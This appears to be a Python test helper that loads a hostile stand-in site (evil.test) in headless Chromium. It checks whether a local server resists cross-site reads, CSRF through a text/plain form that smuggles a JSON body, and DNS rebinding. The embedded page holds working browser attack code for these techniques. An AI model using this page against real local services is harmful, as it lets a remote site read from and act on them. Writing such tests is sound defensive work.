"""A page of somebody else's in a real browser, that tries to read a server of this machine and to act on it."""

from __future__ import annotations

import http.client
import json
import shutil
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from tests.app.servicekit import eventually
from tests.httpkit import Answer, HttpStandIn, Request

CHROMIUM = shutil.which("chromium")
SITE = "evil.test"
"""The name of the other site. It is reserved (RFC 6761); the browser is told that it is this machine."""
PATIENCE_S = 100.0

PAGE = """<!doctype html><title>another site</title><body><iframe name="frame"></iframe><iframe id="seen"></iframe>
<script>
const {target, read, act, method, body} = WHAT;
const found = {};
async function attempt(name, go) {
  try {
    const answer = await go();
    found[name] = {type: answer.type, status: answer.status, text: await answer.text()};
  } catch (error) { found[name] = {error: String(error)}; }
}
function loaded(element, begin) {
  return new Promise(go => { element.onload = () => go(true); setTimeout(() => go(false), 30000); begin(); });
}
(async () => {
  const asked = {method, body};
  await attempt("read", () => fetch(target + read));
  await attempt("read blindly", () => fetch(target + read, {mode: "no-cors"}));
  await attempt("act", () => fetch(target + act, {...asked, headers: {"Content-Type": "application/json"}}));
  await attempt("act as text", () => fetch(target + act, {...asked, mode: "no-cors"}));
  const form = document.createElement("form");
  Object.assign(form, {method: "post", enctype: "text/plain", action: target + act, target: "frame"});
  const field = document.createElement("input");
  [field.name, field.value] = [body.slice(0, -1) + ', "more": "', '"}'];
  form.append(field);
  document.body.append(form);
  const frameForm = document.querySelector("[name=frame]");
  found.form = {sent: await loaded(frameForm, () => form.submit())};
  const frame = document.getElementById("seen");
  await loaded(frame, () => { frame.src = target + "/"; });
  try { found.frame = {text: frame.contentDocument.body.innerText}; }
  catch (error) { found.frame = {error: String(error)}; }
  await fetch("/results", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""


@dataclass(frozen=True)
class Aim:
    """What the page tries: to read `read`, and to send `body`, a JSON object, to `act`. `url`: the server."""

    url: str
    read: str
    act: str
    body: dict[str, Any]
    method: str = "POST"


class OtherSite(HttpStandIn):
    """The other site. Everything but its page it hands on to the server, with the name that the browser used.

    To the browser this is what happens when the site points its name at this machine once its page is open: the same
    origin is then another server (DNS rebinding).
    """

    def __init__(self, aim: Aim, rebinds: bool) -> None:
        self.aim, self.rebinds = aim, rebinds
        self.results: dict[str, dict[str, Any]] = {}
        super().__init__()

    def answer(self, request: Request) -> Answer:
        """The page; thanks for the results; or what the server answers."""
        if request.path == "/page":
            aim = self.aim
            what = {
                "target": "" if self.rebinds else aim.url,
                "read": aim.read,
                "act": aim.act,
                "method": aim.method,
                "body": json.dumps(aim.body),
            }
            return Answer(PAGE.replace("WHAT", json.dumps(what)), headers={"Content-Type": "text/html"})
        if request.path == "/results":
            self.results = request.body
            return Answer("thanks")
        return self._handed_on(request)

    def _handed_on(self, request: Request) -> Answer:
        connection = http.client.HTTPConnection(urlsplit(self.aim.url).netloc, timeout=10)
        try:
            kept = {
                name: request.headers[name]
                for name in ("host", "content-type", "origin")
                if name in request.headers
            }
            connection.request(request.method, request.target, request.content, kept)
            answer = connection.getresponse()
            return Answer(
                answer.read(), answer.status, {"Content-Type": answer.getheader("Content-Type", "")}
            )
        finally:
            connection.close()


@contextmanager
def browser(url: str, profile: Path) -> Iterator[None]:
    """Open a page in a browser, to which `SITE` is this machine, until the block ends."""
    process = subprocess.Popen(
        [
            str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
            "--disable-dev-shm-usage", f"--user-data-dir={profile}", f"--host-resolver-rules=MAP {SITE} 127.0.0.1",
            "--remote-debugging-port=0", url,
        ],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        yield
    finally:
        process.terminate()
        try:
            process.wait(10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


def attempts(aim: Aim, rebinds: bool, folder: Path) -> dict[str, dict[str, Any]]:
    """Let the page try everything. Returns, for each attempt, the answer that the page could see, or the error."""
    site = OtherSite(aim, rebinds)
    try:
        with browser(f"http://{SITE}:{site.port}/page", folder / "profile"):
            eventually(lambda: site.results, seconds=PATIENCE_S)
        return site.results
    finally:
        site.close()
